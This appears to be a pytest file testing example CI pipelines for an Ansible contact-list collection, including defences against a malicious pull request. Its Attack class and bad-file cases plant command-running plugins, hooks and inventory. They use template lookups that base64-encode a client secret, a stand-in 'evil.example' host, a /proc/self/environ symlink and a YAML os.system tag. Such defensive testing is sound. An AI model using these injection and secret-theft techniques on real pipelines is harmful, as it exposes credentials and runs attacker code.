# Copyright: (c) 2026, the koreai.contact_center contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The pipelines of the examples: each step's own shell is run in a copy of the example repository."""

from __future__ import annotations

import base64
import http.server
import json
import os
import re
import shutil
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from ansible_collections.koreai.contact_center.tests.harness.edges import named_checkout
from ansible_collections.koreai.contact_center.tests.harness.repository import NAMES, copied
from ansible_collections.koreai.contact_center.tests.simulator import Simulator, Switches, environment, sample_lists

pytestmark = pytest.mark.xdist_group("pipelines")

EXAMPLES = Path(__file__).parents[3] / "examples"
TAKE = "Take contact_lists.yml from the request"
SCHEMA = "Check against the schema"
MARKER = "<!-- koreai.contact_center: contact lists -->"
# Notes down how it was called, with its standard input left alone, and answers with what is in a file of its name.
STUB = """#!/bin/sh
{ printf '%s\\n' "$(basename "$0") $*"; } >>"$CALLS"
cat "$0.answer" 2>/dev/null || true
"""


class Unsafe(yaml.SafeLoader):
    """A YAML reader that knows Ansible's tags."""


for tag in ("!unsafe", "!vault"):
    Unsafe.add_constructor(tag, lambda loader, node: loader.construct_scalar(node))


def load(path: str) -> Any:
    return yaml.load((EXAMPLES / path).read_text(encoding="utf-8"), Loader=Unsafe)  # noqa: S506 (a safe loader's child)


@pytest.fixture
def simulator() -> Iterator[Simulator]:
    streams = [environment(name) for name in NAMES]
    for stream in streams:
        sample_lists(stream)
    with Simulator(streams, Switches(rate_limit=0)) as simulator:
        yield simulator


class Pipeline:
    """A copy of the example repository whose environments are simulated, and a shell as a runner gives it."""

    def __init__(self, folder: Path, simulator: Simulator) -> None:
        self.folder = folder / "repository"
        self.simulator = simulator
        self.secrets = copied(self.folder, simulator)
        self.bin = folder / "bin"
        self.bin.mkdir()
        for name in ("pip", "ansible-galaxy", "gh"):
            (self.bin / name).write_text(STUB)
            (self.bin / name).chmod(0o755)
        self.calls = folder / "calls"
        self.temporary = folder / "temporary"
        self.temporary.mkdir()
        self.variables = {
            "PATH": f"{self.bin}:{Path(sys.executable).parent}:{os.environ['PATH']}",
            "HOME": str(folder),
            "CALLS": str(self.calls),
            "ANSIBLE_COLLECTIONS_PATH": str(named_checkout(folder / "collections")),
            "RUNNER_TEMP": str(self.temporary),
            "GITHUB_STEP_SUMMARY": str(folder / "step-summary"),
            "GITHUB_OUTPUT": str(folder / "output"),
            "GITHUB_REPOSITORY": "owner/repository",
            "ALLOWED_HOST": simulator.url,
            **{f"GIT_{who}_{what}": "x@example.com" for who in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")},
        }
        self.git("init", "--quiet", "--initial-branch=main")
        self.commit("What is merged already")

    def git(self, *arguments: str) -> str:
        command = ["git", *arguments]
        done = subprocess.run(command, cwd=self.folder, env=self.variables, capture_output=True, text=True, check=True)
        return done.stdout.strip()

    def commit(self, message: str) -> None:
        self.git("add", "--all", "--force", ".")
        self.git("commit", "--quiet", "--allow-empty", "--message", message)

    def request(self, change: Callable[[Path], object] = lambda _folder: None) -> None:
        """Open a request that changes the repository, and check out its merge, as GitHub does."""
        self.git("checkout", "--quiet", "-b", "request")
        change(self.folder)
        self.commit("What is to be merged")
        self.git("checkout", "--quiet", "--detach", "main")
        self.git("merge", "--quiet", "--no-ff", "--message", "Merge", "request")

    def run(self, workflow: Any, job: str, *names: str, **variables: str) -> subprocess.CompletedProcess[str]:
        """Run steps of a job one after the other, until one fails."""
        for name in names:
            done = self.shell(steps(workflow, job)[name], **variables)
            if done.returncode:
                break
        return done

    def shell(self, script: str, **variables: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
            cwd=self.folder,
            env={**self.variables, **variables},
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )

    def status(self) -> str:
        return str(json.loads((self.folder / "reports/summary.json").read_text())["status"])

    def called(self) -> list[str]:
        return self.calls.read_text().splitlines() if self.calls.exists() else []


@pytest.fixture
def pipeline(tmp_path: Path, simulator: Simulator) -> Pipeline:
    return Pipeline(tmp_path, simulator)


def steps(workflow: Any, job: str) -> dict[str, str]:
    return {part["name"]: part["run"] for part in workflow["jobs"][job]["steps"] if "run" in part}


def test_github_validates_plans_comments_applies_that_plan_and_finds_drift(pipeline: Pipeline) -> None:
    workflow = load("github-actions.yml")
    vault = {**pipeline.secrets, "VAULT_PASSWORD": "example"}

    # A pull request from a fork: no secret at all.
    pipeline.request()
    done = pipeline.run(workflow, "validate", TAKE, "Install", SCHEMA, "Validate")
    assert done.returncode == 0, done
    assert pipeline.called() == [
        "pip install --require-hashes --requirement requirements.txt",
        "ansible-galaxy collection install --requirements-file requirements.yml",
    ]
    assert pipeline.simulator.log.count == 0

    # A pull request: a plan without production and a comment, which the next push writes anew.
    done = pipeline.shell(steps(workflow, "plan-request")["Plan"], **pipeline.secrets)
    assert done.returncode == 0, done
    plan = (pipeline.folder / "reports/plan.md").read_text()
    assert plan.startswith(MARKER)
    assert Path(pipeline.variables["GITHUB_STEP_SUMMARY"]).read_text() == plan
    assert "in 2 environments" in plan
    pull = {"PULL_REQUEST": "7", "GH_TOKEN": "x"}
    assert pipeline.shell(steps(workflow, "plan-request")["Comment"], **pull).returncode == 0
    assert pipeline.called()[-1].startswith(
        "gh api --method POST repos/owner/repository/issues/7/comments --field body=@"
    )
    (pipeline.bin / "gh.answer").write_text("11\n12\n")
    assert pipeline.shell(steps(workflow, "plan-request")["Comment"], **pull).returncode == 0
    assert pipeline.called()[-1].startswith("gh api --method PATCH repos/owner/repository/issues/comments/12 --field")

    # A merge is planned with production; the reviewed plan and nothing else is applied; afterwards nothing drifts.
    done = pipeline.shell(steps(workflow, "plan")["Plan"], **vault)
    assert done.returncode == 0, done
    assert Path(pipeline.variables["GITHUB_OUTPUT"]).read_text() == "status=changes\n"
    assert "4 changes, 9 writes" in (pipeline.folder / "reports/plan.md").read_text()
    shutil.copytree(pipeline.folder / "reports", pipeline.folder / "reviewed")
    done = pipeline.shell(steps(workflow, "apply")["Apply"], **vault)
    assert (done.returncode, pipeline.status()) == (0, "applied"), done
    assert (
        "**4 changes, 9 writes** made in 3 environments" in Path(pipeline.variables["GITHUB_STEP_SUMMARY"]).read_text()
    )
    done = pipeline.shell(steps(workflow, "drift")["Drift"], **vault)
    assert (done.returncode, pipeline.status()) == (0, "clean"), done
    dev = next(iter(pipeline.simulator.streams.values()))
    edited = next(id_ for id_, record in dev.lists.items() if record["name"] == "Renewal Due - July 2025")
    dev.edit(edited, description="By hand")
    done = pipeline.shell(steps(workflow, "drift")["Drift"], **vault)
    assert (done.returncode, pipeline.status()) == (2, "drift")
    assert list(pipeline.temporary.iterdir()) == []
    assert not [text for text in pipeline.secrets.values() if text in done.stdout + done.stderr + plan]


def test_github_tells_of_a_plan_that_was_not_made(pipeline: Pipeline) -> None:
    workflow = load("github-actions.yml")
    done = pipeline.shell(steps(workflow, "plan")["Plan"], VAULT_PASSWORD="wrong")

    assert done.returncode != 0
    assert Path(pipeline.variables["GITHUB_OUTPUT"]).read_text() == "status=error\n"
    summary = json.loads((pipeline.folder / "reports/summary.json").read_text())["environments"]
    assert summary["production"]["msg"] == "kore_client_secret cannot be evaluated."
    assert "credentials are missing: set client_secret" in summary["dev"]["msg"]
    shutil.rmtree(pipeline.folder / "reports")
    assert pipeline.shell(steps(workflow, "plan-request")["Comment"], PULL_REQUEST="7").returncode == 0
    assert "No plan was made" in (pipeline.folder / "reports/plan.md").read_text()


def test_no_shell_of_the_workflow_holds_an_expression() -> None:
    # What others can write, such as a branch's name, would become part of the script.
    workflow = load("github-actions.yml")
    scripts = [part["run"] for job in workflow["jobs"].values() for part in job["steps"] if "run" in part]

    assert len(scripts) == 15
    assert not [script for script in scripts if "${{" in script]
    assert workflow["permissions"] == {"contents": "read"}
    assert "pull_request_target" not in (EXAMPLES / "github-actions.yml").read_text()


class Notes(http.server.BaseHTTPRequestHandler):
    """The API for notes of a merge request, of which there is one already."""

    asked: list[tuple[str, str, Any]]
    notes: list[dict[str, Any]]

    def _answer(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = json.loads(self.rfile.read(length)) if length else None
        self.asked.append((self.command, self.path, body))
        answer: Any = {"id": 42} if self.path.endswith("/user") else self.notes
        content = json.dumps(answer if self.command == "GET" else {}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    do_GET = do_PUT = do_POST = _answer  # noqa: N815 (http.server's names)

    def log_message(self, *_arguments: Any) -> None:
        """Say nothing."""


def test_gitlab_writes_one_note_and_applies_that_plan(pipeline: Pipeline) -> None:
    jobs = load("gitlab-ci.yml")
    password = pipeline.temporary / "password"
    password.write_text("example\n")
    variables = {**pipeline.secrets, "VAULT_PASSWORD_FILE": str(password)}

    def script(job: str, part: str = "script") -> str:
        return "\n".join(jobs[job][part])

    # The runner clones the repository and checks out the request.
    pipeline.git("remote", "add", "origin", str(pipeline.folder))
    pipeline.request()
    merge = {"CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "main"}
    before = "\n".join([command for part in jobs[".request"]["before_script"] for command in _flat(part)])
    assert pipeline.shell(before, **merge).returncode == 0
    assert pipeline.shell(script("validate")).returncode == 0
    done = pipeline.shell(
        script("plan-request"), **{name: pipeline.secrets[name] for name in pipeline.secrets if "DEV" in name}
    )
    assert (done.returncode, pipeline.status()) == (0, "changes"), done
    body = {"body": (pipeline.folder / "reports/plan.md").read_text()}

    handler: Any = type("Handler", (Notes,), {"asked": [], "notes": [_note(5, "Other"), _note(6, MARKER, 7)]})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        place = {
            "CI_API_V4_URL": f"http://127.0.0.1:{server.server_port}/api/v4",
            "CI_PROJECT_ID": "3",
            "CI_MERGE_REQUEST_IID": "7",
            "NOTES_TOKEN": "a-token",
            "no_proxy": "127.0.0.1",
        }
        assert pipeline.shell(script("plan-request", "after_script"), **place).returncode == 0
        handler.notes.append(_note(8, f"{MARKER}\n"))
        assert pipeline.shell(script("plan-request", "after_script"), **place).returncode == 0
        server.shutdown()
    base = "/api/v4/projects/3/merge_requests/7/notes"
    assert [asked for asked in handler.asked if asked[0] != "GET"] == [("POST", base, body), ("PUT", f"{base}/8", body)]

    done = pipeline.shell(script("plan"), **variables)
    assert (done.returncode, pipeline.status()) == (0, "changes"), done

    done = pipeline.shell(script("apply"), **variables)
    assert (done.returncode, pipeline.status()) == (0, "applied"), done
    done = pipeline.shell(script("drift"), **variables)
    assert (done.returncode, pipeline.status()) == (0, "clean"), done


def _flat(part: Any) -> list[str]:
    return part if isinstance(part, list) else [part]


def _note(id_: int, body: str, author: int = 42) -> dict[str, Any]:
    return {"id": id_, "body": body, "author": {"id": author}}


@pytest.mark.parametrize(
    ("schema", "path", "more"),
    [
        ("vendor.github-workflows", "github-actions.yml", ()),
        ("vendor.gitlab-ci", "gitlab-ci.yml", ("--data-transform", "gitlab-ci")),
    ],
)
def test_the_pipelines_follow_their_schemas(schema: str, path: str, more: tuple[str, ...]) -> None:
    program = Path(sys.executable).with_name("check-jsonschema")
    command = [program, "--builtin-schema", schema, *more, EXAMPLES / path]

    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr


def test_no_secret_lies_open_in_the_example_repository(simulator: Simulator) -> None:
    text = "".join(path.read_text() for path in (EXAMPLES / "repository").rglob("*") if path.is_file())

    assert not re.search("fake-secret", text)
    assert "$ANSIBLE_VAULT;" in text
    assert all(stream.stream_id in text for stream in simulator.streams.values())


class Attack:
    """A request that changes everything that may be changed, to have TOUCHED made, or to read the job's environment."""

    def __init__(self, folder: Path) -> None:
        self.touched = folder / "touched"
        self.host = "https://evil.example"

    def __call__(self, folder: Path) -> None:
        touch = f"touch {self.touched}"
        python = f"import os\nos.system({touch!r})\n"
        secret = "{{ lookup('env', 'KORE_STAGING_CLIENT_SECRET') | b64encode }}"
        pipe = f"{{{{ lookup('pipe', '{touch}') }}}}"
        lists = [{"name": name, "description": text, "create": True} for name, text in (("a", secret), ("b", pipe))]
        lists[0]["name"] = "##[add-mask]changes%0A"
        files = {
            "contact_lists.yml": json.dumps({"contact_lists": lists, "environments": {"dev": {"overrides": {}}}}),
            "ansible.cfg": "[defaults]\ncallback_plugins = evil\ncallbacks_enabled = evil\nfilter_plugins = evil\n",
            "evil/evil.py": python,
            "sitecustomize.py": python,
            "inventory.yml": f"#!/bin/sh\n{touch}\n",
            "group_vars/all.yml": f"kore_host: {self.host}\nx: {pipe}\n",
            "group_vars/kore_environments/zz.yml": f"kore_host: {self.host}\nkore_allowed_hosts: [{self.host}]\n",
            "host_vars/dev/zz.yml": f'kore_account_id: "{pipe}"\ncontact_lists_report_dir: "{pipe}"\n',
            "requirements.txt": "evil\n",
            "requirements.yml": "collections: [evil.evil]\n",
            "contact_lists.schema.json": "{}",
            "collections/ansible_collections/koreai/contact_center/plugins/action/kore_contact_lists.py": python,
            "playbooks/plan.yml": f"- hosts: localhost\n  tasks: [{{shell: {touch}}}]\n",
            "library/kore_contact_lists.py": python,
            ".git-hooks/post-checkout": f"#!/bin/sh\n{touch}\n",
            ".gitattributes": "* filter=evil\n",
        }
        for name, text in files.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")
        (folder / "inventory.yml").chmod(0o755)


def hold_nothing_leaked(pipeline: Pipeline, attack: Attack, *done: subprocess.CompletedProcess[str]) -> None:
    assert not attack.touched.exists()
    artifacts = [path.read_text() for path in (pipeline.folder / "reports").iterdir()]
    printed = [text for run in done for text in (run.stdout, run.stderr)]
    for secret in pipeline.secrets.values():
        for form in (secret, base64.b64encode(secret.encode()).decode(), secret[::-1]):
            assert not [text for text in (*artifacts, *printed) if form in text]
    assert not [text for text in printed if "##[" in text]
    assert attack.host not in " ".join(artifacts)


def test_github_runs_nothing_of_a_malicious_request(pipeline: Pipeline, tmp_path: Path) -> None:
    workflow = load("github-actions.yml")
    attack = Attack(tmp_path)
    pipeline.request(attack)
    done = pipeline.run(workflow, "validate", TAKE, "Install", SCHEMA, "Validate")
    assert done.returncode == 0, done
    assert pipeline.git("status", "--porcelain") == "M contact_lists.yml"
    assert "hash=sha256" in (pipeline.folder / "requirements.txt").read_text()

    planned = pipeline.shell(steps(workflow, "plan-request")["Plan"], **pipeline.secrets)
    assert planned.returncode == 0, planned
    plan = json.loads((pipeline.folder / "reports/plan.json").read_text())["environments"]
    assert {"dev", "staging"} == set(plan)
    wanted = {action["name"]: action["changes"]["description"]["after"] for action in plan["dev"]["actions"]}
    assert wanted["##[add-mask]changes%0A"] == "{{ lookup('env', 'KORE_STAGING_CLIENT_SECRET') | b64encode }}"
    assert "::stop-commands::" in planned.stdout
    hold_nothing_leaked(pipeline, attack, done, planned)


def test_gitlab_runs_nothing_of_a_malicious_request(pipeline: Pipeline, tmp_path: Path) -> None:
    jobs = load("gitlab-ci.yml")
    attack = Attack(tmp_path)
    pipeline.git("remote", "add", "origin", str(pipeline.folder))
    pipeline.request(attack)
    pipeline.git("checkout", "--quiet", "request")
    commands = [command for part in jobs[".request"]["before_script"] for command in _flat(part)]
    script = [*commands, *jobs["validate"]["script"], *jobs["plan-request"]["script"]]
    done = pipeline.shell("\n".join(script), **pipeline.secrets, CI_MERGE_REQUEST_TARGET_BRANCH_NAME="main")
    assert (done.returncode, pipeline.status()) == (0, "changes"), done
    assert set(json.loads((pipeline.folder / "reports/plan.json").read_text())["environments"]) == {"dev"}
    hold_nothing_leaked(pipeline, attack, done)


def _symlink(folder: Path) -> None:
    (folder / "contact_lists.yml").unlink()
    (folder / "contact_lists.yml").symlink_to("/proc/self/environ")


BAD_FILES: dict[str, Callable[[Path], object]] = {
    "symlink": _symlink,
    "too large": lambda folder: (folder / "contact_lists.yml").write_text("contact_lists: []\n" + "#" * 1_000_000),
    "missing": lambda folder: (folder / "contact_lists.yml").unlink(),
    "unknown key": lambda folder: (folder / "contact_lists.yml").write_text("contact_lists: []\nkore_host: x\n"),
    "tag": lambda folder: (folder / "contact_lists.yml").write_text(
        "contact_lists: !!python/object/apply:os.system [x]\n"
    ),
    "old form": lambda folder: (folder / "contact_lists.yml").write_text("contact_lists_desired: []\n"),
}


@pytest.mark.parametrize("kind", BAD_FILES)
def test_a_file_that_is_no_declarations_ends_the_job_before_ansible(kind: str, pipeline: Pipeline) -> None:
    pipeline.request(BAD_FILES[kind])
    workflow = load("github-actions.yml")
    done = pipeline.run(workflow, "plan-request", TAKE, "Install", SCHEMA, SECRET="a-secret-of-the-job")
    assert done.returncode != 0
    assert "a-secret-of-the-job" not in done.stdout + done.stderr


def test_the_jobs_of_a_request_hold_no_secret_of_production() -> None:
    github, gitlab = (EXAMPLES / "github-actions.yml").read_text(), load("gitlab-ci.yml")
    jobs = load("github-actions.yml")["jobs"]
    assert "{{ secrets." not in json.dumps(jobs["validate"])
    assert re.findall(r"{{ secrets\.(\w+)", json.dumps(jobs["plan-request"])) == [
        "KORE_DEV_CLIENT_SECRET",
        "KORE_STAGING_CLIENT_SECRET",
    ]
    assert all("environment" in job for job in jobs.values() if "VAULT_PASSWORD" in json.dumps(job))
    assert all("timeout-minutes" in job for job in jobs.values())
    assert github.count("persist-credentials: false") == github.count("actions/checkout@") == len(jobs)
    assert "VAULT" not in json.dumps([gitlab["validate"], gitlab["plan-request"], gitlab[".request"]])
    assert gitlab["apply"]["environment"] == "contact-lists"
    assert github.count("kore_allowed_hosts=$ALLOWED_HOST") == 4
